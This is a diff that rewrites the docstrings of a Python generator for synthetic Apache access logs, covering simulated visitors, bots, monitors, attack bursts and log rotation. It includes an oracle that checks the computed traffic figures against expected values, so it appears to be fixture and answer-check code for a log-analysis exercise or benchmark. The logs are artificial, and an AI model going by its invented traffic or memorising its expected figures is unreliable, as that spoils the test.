 @dataclass(frozen=True, slots=True)
 class Line:
-    """One line to be. Apache writes it when the answer is out, `took` seconds after `at`."""
+    """One line of the log. Apache writes it after the response, `took` seconds after `at`."""
 
     at: int
     client: str
@@ -1197,7 +1197,7 @@ class Line:
     took: int = 0
 
     def text(self) -> bytes:
-        """Write the line in the combined format; %b is "-" when nothing was sent."""
+        """Return the line in the combined format; %b is "-" for an empty response."""
         day, rest = divmod(self.at, DAY)
         clock = f"{rest // HOUR:02d}:{rest // 60 % 60:02d}:{rest % 60:02d}"
         return (
@@ -1207,7 +1207,7 @@ class Line:
 
 
 def size_of(path: str) -> int:
-    """Make up how many bytes a page or file is: the same every time."""
+    """Return the size of a page or file in bytes, derived from its path."""
     bare = path.partition("?")[0]
     return SMALL.get(bare, 4_000 + zlib.crc32(bare.encode()) % 34_000)
 
@@ -1221,7 +1221,7 @@ class Step(NamedTuple):
 
 
 def steps(rng: random.Random, library: Library, walk: Walk) -> Iterator[Step]:
-    """Draw where a walk leads. The portal sets `Referrer-Policy: origin`: no path in referrers."""
+    """Draw the pages of a walk. The portal sets `Referrer-Policy: origin`: no path in referrers."""
     referer, kind, tracking = WAY_WHEELS[AGENTS[walk.visitor.agent].way].draw(rng)
     target = library.page(rng, kind, walk.views[0], tracking)
     for n, at in enumerate(walk.views):
@@ -1234,13 +1234,13 @@ def steps(rng: random.Random, library: Library, walk: Walk) -> Iterator[Step]:
             target = library.page(rng, kind, at)
 
 
-SLOW_WHEEL = Wheel(((92, 0), (6, 1), (1, 3), (1, 9)))  # seconds an answer takes
+SLOW_WHEEL = Wheel(((92, 0), (6, 1), (1, 3), (1, 9)))  # seconds until the response is sent
 PARTS_FIRST = Wheel(((26, 0), (30, 1), (24, 2), (14, 3), (6, 4)))
 PARTS_LATER = Wheel(((70, 0), (25, 1), (5, 2)))
 
 
 def parts(rng: random.Random, target: str, wheel: Wheel[int]) -> list[str]:
-    """Draw the assets a page brings along; after the first page most are in the cache."""
+    """Draw the assets that a page loads; after the first page most are in the cache."""
     wanted = wheel.draw(rng)
     found = dict.fromkeys(THEME_WHEEL.draw(rng) for _ in range(wanted))
     number = re.search(r"-(\d{6})(?:\?|$)", target)
@@ -1250,14 +1250,14 @@ def parts(rng: random.Random, target: str, wheel: Wheel[int]) -> list[str]:
 
 
 def ask(visitor: Visitor, at: int, asked: Asked, referer: str = "-", took: int = 0) -> Line:
-    """Write what a person's browser asks for."""
+    """Return the line of a request by a person's browser."""
     agent = AGENTS[visitor.agent]
     request = f"{asked.method} {asked.path} {agent.protocol}"
     return Line(at, visitor.client, agent.text, request, asked.status, asked.size, referer, took)
 
 
 def walk_lines(rng: random.Random, library: Library, walk: Walk) -> Iterator[Line]:
-    """Write all that a visitor's browser asks for on a walk."""
+    """Yield the lines of all requests of a walk."""
     seen: set[str] = set()
     for at, target, referer in steps(rng, library, walk):
         again = rng.random() < (0.35 if target in seen else 0.02)
@@ -1275,7 +1275,7 @@ def walk_lines(rng: random.Random, library: Library, walk: Walk) -> Iterator[Lin
 
 
 def asset_lines(rng: random.Random, visitor: Visitor, at: int, paths: Iterable[str]) -> Iterator[Line]:
-    """Write what a page brings along."""
+    """Yield the lines of the assets that a page loads."""
     for path in paths:
         status = 206 if path.endswith(".mp4") else 304 if rng.random() < 0.25 else 200
         asked = Asked("GET", path, status, 0 if status == 304 else size_of(path))
@@ -1283,7 +1283,7 @@ def asset_lines(rng: random.Random, visitor: Visitor, at: int, paths: Iterable[s
 
 
 def stray_lines(rng: random.Random, walks: Sequence[Walk]) -> Iterator[Line]:
-    """Write of people who never got a page: a dead link, a feed reader, a lost network."""
+    """Yield lines of people without a page view: a dead link, a feed reader, a lost connection."""
     for day in range(1, 22):
         for _ in range(16):
             at = (day - 1) * DAY + HOUR_WHEELS[day - 1].draw(rng) * HOUR + rng.randrange(HOUR)
@@ -1295,7 +1295,7 @@ def stray_lines(rng: random.Random, walks: Sequence[Walk]) -> Iterator[Line]:
 
 
 def bot_lines(rng: random.Random, library: Library) -> Iterator[Line]:
-    """Write of the crawlers, in runs of some lines from one address."""
+    """Yield the lines of the bots, in runs of 3 to 18 lines from one IP."""
     for bot in BOTS:
         for day in range(1, 22):
             left = round(bot.per_day * rng.uniform(0.8, 1.2))
@@ -1306,7 +1306,7 @@ def bot_lines(rng: random.Random, library: Library) -> Iterator[Line]:
 
 
 def bot_run(rng: random.Random, library: Library, bot: Bot, at: int, run: int) -> Iterator[Line]:
-    """Write one run."""
+    """Yield the lines of one run."""
     client, articles = rng.choice(bot.clients), library.published(at)
     for _ in range(run):
         if at > END:
@@ -1320,7 +1320,7 @@ def bot_run(rng: random.Random, library: Library, bot: Bot, at: int, run: int) -
 
 
 def monitor_lines() -> Iterator[Line]:
-    """Write of all that asks at a fixed pace."""
+    """Yield the lines of the monitors."""
     for row in MONITORS:
         size = {"OPTIONS": 126, "HEAD": 0, "GET": size_of(row.path)}[row.method]
         request = f"{row.method} {row.path} HTTP/1.1"
@@ -1329,7 +1329,7 @@ def monitor_lines() -> Iterator[Line]:
 
 
 def office_lines(rng: random.Random, library: Library) -> Iterator[Line]:
-    """Write of the editors, who look at what they have written."""
+    """Yield the lines of the editors, who read their own articles."""
     for day in range(1, 22):
         for _ in range(5 if day % 7 in (0, 1) else OFFICE_LINES):
             at = rng.randint(moment(day, "07:20:00"), moment(day, "17:40:00"))
@@ -1340,7 +1340,7 @@ def office_lines(rng: random.Random, library: Library) -> Iterator[Line]:
 
 
 def attack_lines(rng: random.Random) -> Iterator[Line]:
-    """Write the bursts, two requests a second or so."""
+    """Yield the lines of the attacks."""
     for burst in BURSTS:
         at = moment(burst.day, burst.clock)
         for request, status, size, referer in ATTACKS * burst.rounds:
@@ -1350,7 +1350,7 @@ def attack_lines(rng: random.Random) -> Iterator[Line]:
 
 
 def all_lines(rng: random.Random, plan: Plan) -> list[tuple[int, bytes]]:
-    """Write every line, with the second it was written in, in the order of the log."""
+    """Return every line with the second in which it was written, in the order of the log."""
     library = Library(rng)
     made = [line for walk in plan.walks for line in walk_lines(rng, library, walk)]
     made += stray_lines(rng, plan.walks)
@@ -1363,7 +1363,7 @@ def all_lines(rng: random.Random, plan: Plan) -> list[tuple[int, bytes]]:
     return sorted((pair for pair in written if pair[0] <= END), key=lambda pair: pair[0])
 
 
-# --- The oracle: the figures by the plain definition, from the lines alone --------------------
+# --- The oracle: the figures by their definition, from the lines alone ------------------------
 
 COMBINED = re.compile(
     rb'(\S+) \S+ .+? \[([^]"]+)\] "((?:[^"\\]|\\.)*)" (\d{3}) (?:\d+|-)'
@@ -1384,7 +1384,7 @@ INTERNAL = ("127.0.0.0/8", "::1/128", OFFICE)
 
 
 class Hit(NamedTuple):
-    """What the oracle needs of a line."""
+    """The fields of a line that the oracle needs."""
 
     at: datetime
     visitor: tuple[str, str]
@@ -1394,7 +1394,7 @@ class Hit(NamedTuple):
 
 @dataclass
 class Figures:
-    """What the lines say."""
+    """The figures of the lines."""
 
     kinds: Counter[str] = field(default_factory=Counter)
     views: int = 0
@@ -1406,25 +1406,25 @@ class Figures:
     paths: Counter[str] = field(default_factory=Counter)
 
     def articles(self) -> list[tuple[str, int]]:
-        """List the articles and their page views, most read first."""
+        """Return the articles with their page views, most read first."""
         rows = [row for row in self.paths.items() if re.search(r"-\d{6}$", row[0])]
         return sorted(rows, key=lambda row: (-row[1], row[0]))
 
 
 @cache
 def internal(client: str) -> bool:
-    """Say whether the address is the server's own or the office's."""
+    """Whether a client IP is the server's own or the office's."""
     return any(ipaddress.ip_address(client) in ipaddress.ip_network(row) for row in INTERNAL)
 
 
 @cache
 def machine(agent: str) -> bool:
-    """Say whether an agent is no person's."""
+    """Whether an agent is a bot's."""
     return MACHINE.search(agent) is not None
 
 
 def kind_of(client: str, agent: str, request: str, status: int) -> str:
-    """Say what a hit is: internal, bot, asset, other or page view."""
+    """Return the class of a hit: internal, bot, asset, other or page view."""
     method, _, rest = request.partition(" ")
     path = re.sub(r" HTTP/[\d.]+$", "", rest).partition("?")[0]
     if internal(client):
@@ -1438,7 +1438,7 @@ def kind_of(client: str, agent: str, request: str, status: int) -> str:
 
 
 def read(line: bytes) -> Hit | None:
-    """Read a hit, or None from a line that is not in the combined format."""
+    """Return the hit of a line, None if the line is not in the combined format."""
     match = COMBINED.fullmatch(line)
     if not match:
         return None
@@ -1449,13 +1449,13 @@ def read(line: bytes) -> Hit | None:
 
 
 def canonical(path: str) -> str:
-    """Find an article's one address, as far as this sample needs it."""
+    """Return the canonical form of a path, as far as this sample needs it."""
     bare = re.split("[?#;]", path)[0]
     return unicodedata.normalize("NFC", unquote(re.sub("/+", "/", bare))).rstrip("/")
 
 
 def visits_of(moments: Iterable[datetime]) -> Iterator[tuple[datetime, datetime]]:
-    """Find the first and last page view of each visit of one visitor."""
+    """Yield the first and last page view of each visit of one visitor."""
     first = last = None
     for at in sorted(moments):
         if first is None or last is None:
@@ -1469,7 +1469,7 @@ def visits_of(moments: Iterable[datetime]) -> Iterator[tuple[datetime, datetime]
 
 
 def figures(lines: Iterable[bytes], at: datetime) -> Figures:
-    """Count the figures at that moment; `kinds` counts all lines, the rest those up to it."""
+    """Return the figures at a time; `kinds` counts all lines, the others only those up to it."""
     found, views = Figures(all_time=BASELINE), defaultdict[tuple[str, str], list[datetime]](list)
     for line in lines:
         hit = read(line)
@@ -1491,7 +1491,7 @@ def figures(lines: Iterable[bytes], at: datetime) -> Figures:
 
 
 def differences(found: Figures, plan: Plan) -> list[str]:
-    """List what the lines say, where it is not what was promised."""
+    """Return a message for each figure that differs from the expected one."""
     rows = [
         ("online", found.online, ONLINE),
         ("today", found.today, TODAY),
@@ -1536,13 +1536,13 @@ internal = ["127.0.0.0/8", "::1/128", "{OFFICE}"]
 
 
 def name_of(written: int) -> str:
-    """Name the file a line is in today, after all rotations since."""
+    """Return the name of the file that has a line after all later rotations."""
     age = len(ROTATIONS) - bisect_right(ROTATIONS, written)
     return "access.log" + (f".{age}" if age else "") + (".gz" if age > 1 else "")
 
 
 def packed(name: str, content: bytes) -> bytes:
-    """Pack the content as it lies on disk; the archive holds neither a name nor a time."""
+    """Return the content as it is on disk; an archive holds neither a name nor a time."""
     if not name.endswith(".gz"):
         return content
     target = io.BytesIO()
@@ -1552,7 +1552,7 @@ def packed(name: str, content: bytes) -> bytes:
 
 
 def portal_files(written: Sequence[tuple[int, bytes]]) -> dict[str, bytes]:
-    """Cut the log where it was rotated: the files by name, the live one last."""
+    """Split the log at its rotations: return the content of each file by name, the live one last."""
     files: dict[str, list[bytes]] = defaultdict(list)
     for second, line in written:
         files[name_of(second)].append(line + b"\n")
@@ -1560,7 +1560,7 @@ def portal_files(written: Sequence[tuple[int, bytes]]) -> dict[str, bytes]:
 
 
 def write(out: Path, portal: dict[str, bytes]) -> None:
-    """Write everything, and take away what an earlier run left."""
+    """Write all files, and remove the logs of an earlier run."""
     for folder in ("portal", "formats"):
         (out / folder).mkdir(parents=True, exist_ok=True)
     for old in (out / "portal").glob("access.log*"):
@@ -1573,7 +1573,7 @@ def write(out: Path, portal: dict[str, bytes]) -> None:
 
 
 def summary(written: Sequence[tuple[int, bytes]], found: Figures, sizes: dict[str, int]) -> str:
-    """Sum up what was made, for the reader of the terminal."""
+    """Return a summary of the files and figures, to be printed."""
     per_file: dict[str, Counter[bool]] = defaultdict(Counter)
     for second, line in written:
         per_file[name_of(second)][COMBINED.fullmatch(line) is not None] += 1
@@ -1591,7 +1591,7 @@ def summary(written: Sequence[tuple[int, bytes]], found: Figures, sizes: dict[st
 
 
 def main() -> int:
-    """Plan, write the lines, check them, and only then write the files."""
+    """Plan the visits, generate and check the lines, then write the files; return the exit code."""
     parser = argparse.ArgumentParser(description=__doc__.partition("\n")[0])
     parser.add_argument("--out", type=Path, default=Path(__file__).parent, metavar="DIR")
     out: Path = parser.parse_args().out
